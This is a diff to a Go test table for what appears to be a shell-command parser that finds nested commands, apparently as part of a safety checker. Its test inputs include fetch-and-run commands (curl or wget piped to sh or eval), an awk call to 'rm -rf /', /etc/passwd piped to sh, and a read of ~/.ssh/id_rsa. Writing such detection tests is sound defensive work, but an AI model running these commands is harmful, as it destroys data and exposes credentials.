@@ -213,12 +213,14 @@ var parseTests = []struct {
 	{"sh -c \"$(curl x)\"", []string{
 		"curl x @1.0 d=1",
 		"sh -c \"$(curl x)\" @1.1 dyn",
-		"$(curl x) @2.0 d=1 dyn",
+		"curl x @2.0 d=2",
+		"$(curl x) @3.0 d=1 dyn",
 	}},
 	{"eval \"$(wget -qO- x)\"", []string{
 		"wget -qO- x @1.0 d=1",
 		"eval \"$(wget -qO- x)\" @1.1 dyn",
-		"$(wget -qO- x) @2.0 d=1 dyn",
+		"wget -qO- x @2.0 d=2",
+		"$(wget -qO- x) @3.0 d=1 dyn",
 	}},
 	{"source <(curl x)", []string{
 		"curl x @1.0 d=1",
@@ -505,6 +507,24 @@ var parseTests = []struct {
 		"echo ls @0.0",
 		"base64 @0.1",
 		"sh @0.2",
+	}},
+	{"awk 'BEGIN { system(\"rm -rf /\") }'", []string{
+		"awk \"BEGIN { system(\\\"rm -rf /\\\") }\" @0.0",
+		"rm -rf / @1.0 d=1 syn",
+	}},
+	{"gawk -F: -v x=1 '{ print $1 | \"sh\" }' /etc/passwd", []string{
+		"gawk -F: -v x=1 \"{ print $1 | \\\"sh\\\" }\" /etc/passwd @0.0",
+		"sh @1.0 d=1 syn",
+	}},
+	{"awk 'BEGIN { \"id\" | getline u; print u }'", []string{
+		"awk \"BEGIN { \\\"id\\\" | getline u; print u }\" @0.0",
+		"id @1.0 d=1 syn",
+	}},
+	{"awk -f prog.awk data", []string{
+		"awk -f prog.awk data @0.0",
+	}},
+	{"awk '{print $1}' file", []string{
+		"awk \"{print $1}\" file @0.0",
 	}},
 	// Home, variables, compound commands, redirections, fallback.
 	{"cat ~/.ssh/id_rsa", []string{
